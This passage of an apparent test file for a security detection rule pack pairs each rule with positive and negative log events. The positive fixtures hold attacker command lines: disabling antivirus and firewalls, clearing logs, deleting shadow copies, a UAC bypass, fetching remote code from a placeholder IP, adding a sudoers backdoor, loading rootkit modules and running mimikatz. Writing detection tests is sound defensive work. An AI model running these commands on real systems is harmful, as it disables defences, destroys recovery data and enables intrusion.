    negative: [...times(49, (i) => dnsq(`host${i}.corp.local`, i, 'NXDOMAIN')), ...times(50, (i) => dnsq(`host${i}.corp.local`, i, 'NOERROR'))],
  },
  'Network Share Enumeration Across Hosts (Network)': {
    positive: ['10.0.0.10', '10.0.0.11', '10.0.0.12'].map((h, i) => rpc('srvsvc', 'NetrShareEnum', i, h)),
    negative: [...['10.0.0.10', '10.0.0.11'].map((h, i) => rpc('srvsvc', 'NetrShareEnum', i, h)), ...['10.0.0.10', '10.0.0.11', '10.0.0.12'].map((h, i) => rpc('srvsvc', 'NetrServerGetInfo', i, h))],
  },
  'Domain Accounts Or Groups Enumerated Over DCE-RPC': {
    positive: [rpc('samr', 'SamrEnumerateUsersInDomain'), rpc('samr', 'SamrGetMembersInAlias')],
    negative: [rpc('samr', 'SamrConnect5'), rpc('samr', 'SamrLookupNamesInDomain')],
  },
  'Sessions Or Logged-On Users Enumerated Over DCE-RPC': {
    positive: [rpc('srvsvc', 'NetrSessionEnum'), rpc('wkssvc', 'NetrWkstaUserEnum')],
    negative: [rpc('srvsvc', 'NetrShareGetInfo'), rpc('wkssvc', 'NetrWkstaGetInfo')],
  },
  'Security Tool Or Firewall Disabled': {
    positive: [proc('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell Set-MpPreference -DisableRealtimeMonitoring $true'), ecsProc('iptables', 'iptables -F'), proc('C:\\Windows\\System32\\netsh.exe', 'netsh advfirewall set allprofiles state off')],
    negative: [proc('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell Get-MpPreference'), ecsProc('iptables', 'iptables -L -n'), proc('C:\\Windows\\System32\\netsh.exe', 'netsh advfirewall show allprofiles')],
  },
  'Event Log Or Shell History Cleared': {
    positive: [proc('C:\\Windows\\System32\\wevtutil.exe', 'wevtutil cl Security'), ecsProc('bash', 'bash -c history -c'), ecsProc('bash', 'bash -c unset HISTFILE')],
    negative: [proc('C:\\Windows\\System32\\wevtutil.exe', 'wevtutil qe Security /c:5'), ecsProc('bash', 'bash -c history | tail')],
  },
  'Audit Log Cleared (Windows Event)': {
    positive: [security(1102, { SubjectUserName: 'alice' }), system(104, { Channel: 'System', SourceName: 'Microsoft-Windows-Eventlog' })],
    negative: [security(4624, { TargetUserName: 'alice', LogonType: 2 }), system(7036, { param1: 'Print Spooler' })],
  },
  'Credential Caching Or Protection Weakened In The Registry': {
    positive: [sysmon(13, { EventType: 'SetValue', Image: 'C:\\Windows\\System32\\reg.exe', TargetObject: 'HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential', Details: 'DWORD (0x00000001)' }), proc('C:\\Windows\\System32\\reg.exe', 'reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1')],
    negative: [sysmon(13, { EventType: 'SetValue', Image: 'C:\\Windows\\System32\\svchost.exe', TargetObject: 'HKLM\\System\\CurrentControlSet\\Control\\Lsa\\LsaPid', Details: 'DWORD (0x00000270)' })],
  },
  'UAC Bypass Through A Hijacked Auto-Elevating Program': {
    positive: [sysmon(13, { EventType: 'SetValue', Image: 'C:\\Windows\\System32\\reg.exe', TargetObject: 'HKU\\S-1-5-21-1\\Software\\Classes\\ms-settings\\shell\\open\\command\\(Default)', Details: 'cmd.exe /c start payload.exe' }), proc('C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c start payload.exe', 'C:\\Windows\\System32\\fodhelper.exe')],
    negative: [proc('C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c dir', 'C:\\Windows\\explorer.exe'), proc('C:\\Windows\\System32\\fodhelper.exe', 'fodhelper.exe', 'C:\\Windows\\explorer.exe')],
  },
  'Thread Created In Another Process': {
    positive: [sysmon(8, { SourceImage: 'C:\\Users\\alice\\AppData\\Local\\Temp\\loader.exe', TargetImage: 'C:\\Windows\\System32\\notepad.exe', StartAddress: '0x00000000004A0000' })],
    negative: [sysmon(8, { SourceImage: 'C:\\Windows\\System32\\csrss.exe', TargetImage: 'C:\\Windows\\System32\\notepad.exe', StartAddress: '0x00007FF8A1B2C3D0' })],
  },
  'Signed Binary Proxy Execution Of A Script Or Remote Code': {
    positive: [
      proc('C:\\Windows\\System32\\regsvr32.exe', 'regsvr32 /s /n /u /i:http://198.51.100.7/a.sct scrobj.dll'),
      proc('C:\\Windows\\System32\\mshta.exe', 'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc"":close")'),
      proc('C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\Users\\alice\\AppData\\Local\\Temp\\x.dll,#1'),
      proc('C:\\Windows\\System32\\msiexec.exe', 'msiexec /q /i http://198.51.100.7/p.msi'),
    ],
    negative: [proc('C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe shell32.dll,Control_RunDLL desk.cpl'), proc('C:\\Windows\\System32\\msiexec.exe', 'msiexec /i C:\\Installers\\app.msi'), proc('C:\\Windows\\System32\\regsvr32.exe', 'regsvr32 /s C:\\Program Files\\App\\ext.dll')],
  },
  'Shadow Copies Or Backups Deleted': {
    positive: [proc('C:\\Windows\\System32\\vssadmin.exe', 'vssadmin.exe delete shadows /all /quiet'), proc('C:\\Windows\\System32\\bcdedit.exe', 'bcdedit /set {default} recoveryenabled No'), proc('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell Get-WmiObject Win32_ShadowCopy | Remove-WmiObject')],
    negative: [proc('C:\\Windows\\System32\\vssadmin.exe', 'vssadmin list shadows'), proc('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell Get-WmiObject Win32_ShadowCopy')],
  },
  'Domain Account Or Group Discovery Command': {
    positive: [proc('C:\\Windows\\System32\\net.exe', 'net group "domain admins" /domain'), proc('C:\\Windows\\System32\\net.exe', 'net user /domain'), ecsProc('ldapsearch', 'ldapsearch -x -H ldap://dc1 -b dc=corp,dc=local')],
    negative: [proc('C:\\Windows\\System32\\net.exe', 'net user alice'), proc('C:\\Windows\\System32\\net.exe', 'net use Z: \\\\fs1\\share /persistent:no')],
  },
  'Domain Trust Discovery Command': {
    positive: [proc('C:\\Windows\\System32\\nltest.exe', 'nltest /domain_trusts /all_trusts')],
    negative: [proc('C:\\Windows\\System32\\nltest.exe', 'nltest /sc_query:corp.local')],
  },
  'Local Account Or Privilege Discovery Command': {
    positive: [proc('C:\\Windows\\System32\\net.exe', 'net localgroup administrators'), proc('C:\\Windows\\System32\\whoami.exe', 'whoami /priv'), ecsProc('cat', 'cat /etc/passwd')],
    negative: [proc('C:\\Windows\\System32\\whoami.exe', 'whoami'), ecsProc('cat', 'cat /etc/hostname')],
  },
  'Process Started Through DCOM': {
    positive: [sysmon(1, { Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd.exe /c whoami > C:\\out.txt', ParentImage: 'C:\\Windows\\System32\\mmc.exe', ParentCommandLine: 'C:\\Windows\\system32\\mmc.exe -Embedding', User: 'CORP\\alice' })],
    negative: [sysmon(1, { Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd.exe', ParentImage: 'C:\\Windows\\System32\\mmc.exe', ParentCommandLine: 'mmc.exe compmgmt.msc', User: 'CORP\\alice' })],
  },
  'WMI Event Subscription Created': {
    positive: [sysmon(20, { Operation: 'Created', Type: 'Command Line', Destination: 'powershell -enc AAAA', Name: 'Updater' }), proc('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', "powershell Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{Name='u'}")],
    negative: [proc('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell Get-WmiObject Win32_Process')],
  },
  'BITS Job Created To Download Or Run A Program': {
    positive: [proc('C:\\Windows\\System32\\bitsadmin.exe', 'bitsadmin /create backdoor'), proc('C:\\Windows\\System32\\bitsadmin.exe', 'bitsadmin /SetNotifyCmdLine backdoor C:\\Users\\Public\\a.exe NULL')],
    negative: [proc('C:\\Windows\\System32\\bitsadmin.exe', 'bitsadmin /list /allusers')],
  },
  'EC2 Instance Credentials Used For Discovery Or From A Workstation': {
    positive: [cloudtrail('ListBuckets', 'arn:aws:sts::123456789012:assumed-role/WebRole/i-0317f6c6b66ae9c40', '2026-11-23T10:00:00Z', { userIdentity: { type: 'AssumedRole', principalId: 'AROAEXAMPLE:i-0317f6c6b66ae9c40', arn: 'arn:aws:sts::123456789012:assumed-role/WebRole/i-0317f6c6b66ae9c40' }, userAgent: 'aws-cli/2.13.0 Python/3.11 Darwin/22.6.0' })],
    negative: [
      cloudtrail('PutObject', 'arn:aws:sts::123456789012:assumed-role/WebRole/i-0317f6c6b66ae9c40', '2026-11-23T10:00:00Z', { userIdentity: { type: 'AssumedRole', principalId: 'AROAEXAMPLE:i-0317f6c6b66ae9c40', arn: 'arn:aws:sts::123456789012:assumed-role/WebRole/i-0317f6c6b66ae9c40' }, userAgent: 'aws-sdk-java/1.12 Linux/5.10 amzn2' }),
      cloudtrail('ListBuckets', 'arn:aws:iam::123456789012:user/alice', '2026-11-23T10:00:00Z', { userIdentity: { type: 'IAMUser', principalId: 'AIDAEXAMPLE', arn: 'arn:aws:iam::123456789012:user/alice' }, userAgent: 'aws-cli/2.13.0 Python/3.11 Darwin/22.6.0' }),
    ],
  },
  'CloudTrail, GuardDuty Or Config Turned Off': {
    positive: [cloudtrail('StopLogging', ROLE, '2026-11-23T10:00:00Z', { eventSource: 'cloudtrail.amazonaws.com' })],
    negative: [cloudtrail('StopLogging', ROLE, '2026-11-23T10:00:00Z', { eventSource: 'cloudtrail.amazonaws.com', errorCode: 'AccessDenied' }), cloudtrail('DescribeTrails', ROLE, '2026-11-23T10:00:00Z', { eventSource: 'cloudtrail.amazonaws.com' })],
  },
  'Administrator Policy Attached Or Login Given To An IAM Principal': {
    positive: [cloudtrail('AttachUserPolicy', ROLE, '2026-11-23T10:00:00Z', { eventSource: 'iam.amazonaws.com', requestParameters: { userName: 'backup', policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' } }), cloudtrail('CreateLoginProfile', ROLE, '2026-11-23T10:00:00Z', { eventSource: 'iam.amazonaws.com', requestParameters: { userName: 'backup' } })],
    negative: [cloudtrail('AttachUserPolicy', ROLE, '2026-11-23T10:00:00Z', { eventSource: 'iam.amazonaws.com', requestParameters: { userName: 'backup', policyArn: 'arn:aws:iam::aws:policy/ReadOnlyAccess' } })],
  },
  'Burst Of IAM Enumeration By One Principal': {
    positive: ['ListUsers', 'ListRoles', 'ListGroups', 'ListPolicies', 'GetAccountAuthorizationDetails', 'ListAttachedUserPolicies', 'ListAttachedRolePolicies', 'GetUser', 'GetRole', 'ListAccessKeys'].map((n, i) => cloudtrail(n, ROLE, `2026-11-23T10:00:${pad(i)}Z`, { eventSource: 'iam.amazonaws.com' })),
    negative: [
      ...['ListUsers', 'ListRoles', 'ListGroups', 'ListPolicies', 'GetAccountAuthorizationDetails', 'ListAttachedUserPolicies', 'ListAttachedRolePolicies', 'GetUser', 'GetRole'].map((n, i) => cloudtrail(n, ROLE, `2026-11-23T10:00:${pad(i)}Z`, { eventSource: 'iam.amazonaws.com' })),
      ...times(10, (i) => cloudtrail('ListUsers', ROLE, `2026-11-23T10:01:${pad(i)}Z`, { eventSource: 'iam.amazonaws.com' })),
    ],
  },
  'Snapshot Or Image Shared Outside The Account': {
    positive: [cloudtrail('ModifySnapshotAttribute', ROLE, '2026-11-23T10:00:00Z', { eventSource: 'ec2.amazonaws.com', requestParameters: { snapshotId: 'snap-1', createVolumePermission: { add: { items: [{ userId: '999999999999' }] } } } })],
    negative: [cloudtrail('DescribeSnapshotAttribute', ROLE, '2026-11-23T10:00:00Z', { eventSource: 'ec2.amazonaws.com' })],
  },
  'Password Hash File Read': {
    positive: [ecsProc('cat', 'cat /etc/shadow'), 'type=EXECVE msg=audit(1604994496.155:92733): argc=3 a0="cp" a1="/etc/shadow" a2="/tmp/s"'],
    negative: [ecsProc('passwd', 'passwd /etc/shadow'), ecsProc('cat', 'cat /etc/hosts')],
  },
  'Setuid Or Setgid Bit Set On A File': {
    positive: [ecsProc('chmod', 'chmod u+s /tmp/bash'), ecsProc('chmod', 'chmod 4755 /tmp/rootsh')],
    negative: [ecsProc('chmod', 'chmod 755 /usr/local/bin/tool'), ecsProc('chmod', 'chmod +x run.sh')],
  },
  'Kernel Module Loaded By Command': {
    positive: [ecsProc('insmod', 'insmod /tmp/diamorphine.ko'), ecsProc('modprobe', 'modprobe -v /tmp/rk/reptile_module.ko')],
    negative: [ecsProc('modprobe', 'modprobe br_netfilter'), ecsProc('lsmod', 'lsmod')],
  },
  'Program Downloaded To A Temporary Folder': {
    positive: [ecsProc('wget', 'wget http://198.51.100.7/x -O /tmp/x'), ecsProc('curl', 'curl -s http://198.51.100.7/k -o /dev/shm/k'), ecsProc('chmod', 'chmod +x /tmp/x')],
    negative: [ecsProc('wget', 'wget https://example.com/release.tar.gz'), ecsProc('chmod', 'chmod +x ./build.sh')],
  },
  'Sudo Rights Granted': {
    positive: [ecsProc('usermod', 'usermod -aG sudo backdoor'), ecsProc('bash', "bash -c echo 'backdoor ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers")],
    negative: [ecsProc('usermod', 'usermod -aG docker alice'), ecsProc('cat', 'cat /etc/sudoers')],
  },
  'Known Offensive Tool Executed': {
    positive: [proc('C:\\Users\\alice\\Downloads\\mimikatz.exe', 'mimikatz.exe "privilege::debug" exit')],
    negative: [proc('C:\\Windows\\System32\\notepad.exe', 'notepad.exe C:\\notes.txt')],
  },
}

describe('built-in rule pack', () => {
  const loaded = loadDirs([BUILTIN_RULES_DIR])
  const { silenced } = silencedRefs(loaded.correlations)
  const alerting = [...loaded.rules, ...loaded.correlations].filter((r) => !silenced.has(r.id) && !(r.name !== undefined && silenced.has(r.name)))

  it('compiles without errors', () => {
    expect(loaded.errors).toEqual([])
    expect(alerting.length).toBeGreaterThanOrEqual(35)
  })

  it('gives every alerting rule ATT&CK techniques and a test case', () => {
    for (const r of alerting) {
      expect(resolveAttack(r.tags).techniques.length, r.title).toBeGreaterThan(0)
      expect(CASES[r.title], `no test case for ${r.title}`).toBeDefined()
    }
    expect(Object.keys(CASES).sort()).toEqual(alerting.map((r) => r.title).sort())
  })

  it("counts the seed systems' own failed logons like sshd's: 10 ssh_failed_login records from one address are an SSH brute force", () => {
    const seedFail = (i: number, event_type = 'ssh_failed_login') => ({ timestamp: `2026-11-23T10:00:${pad(i)}Z`, event_type, source_ip: '203.0.113.9', dest_ip: '10.0.0.5', username: 'root', hostname: 'web1' })
    expect(alerts(times(10, (i) => seedFail(i)))).toContain('SSH Brute Force')
    expect(alerts(times(10, (i) => seedFail(i, 'SSH Failed Login')))).toContain('SSH Brute Force')
    expect(alerts(times(9, (i) => seedFail(i)))).not.toContain('SSH Brute Force')
  })

  const correlationTitles = new Set(loaded.correlations.map((c) => c.title))
  for (const [title, c] of Object.entries(CASES)) {
    it(`${title}: fires on the positive case`, () => {
      // a single-event rule must fire on each positive record alone; a correlation on the sequence
      if (correlationTitles.has(title)) expect(alerts(c.positive)).toContain(title)
      else for (const r of c.positive) expect(alerts([r]), JSON.stringify(r)).toContain(title)
    })
    it(`${title}: stays quiet on the negative case`, () => {
      expect(alerts(c.negative)).not.toContain(title)
    })
  }
})
